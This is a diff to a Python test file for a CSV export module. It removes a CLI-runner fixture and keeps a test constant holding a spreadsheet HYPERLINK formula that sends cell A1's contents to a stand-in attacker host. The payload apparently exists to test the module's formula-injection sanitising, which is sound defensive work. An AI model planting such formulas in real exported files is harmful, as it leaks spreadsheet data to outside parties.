@@ -8,11 +8,9 @@ import tracemalloc
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from engine.cli import main
 from engine.store.csvexport import CsvExport, ErrorsFile, safe_cell
 from engine.store.csvsource import MAX_COLUMNS, inspect
 from engine.store.errors import ImportFileError
@@ -22,19 +20,6 @@ from engine.store.phones import mask
 from engine.store.repos.customers import CustomerRepository
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
-
-
-@pytest.fixture
-def jq(tmp_path, monkeypatch):
-    """Run `jinqiao ARGS...` against a fresh SQLite database; returns (exit code, stdout, stderr)."""
-    monkeypatch.setenv("JINQIAO_DATABASE_URL", f"sqlite:///{tmp_path / 'jq.db'}")
-    monkeypatch.delenv("JINQIAO_CONFIG", raising=False)
-
-    def run(*args: str):
-        result = CliRunner().invoke(main, list(args), catch_exceptions=False)
-        return result.exit_code, result.stdout, result.stderr
-
-    return run
 
 
 def read_csv(path: Path) -> list[list[str]]:
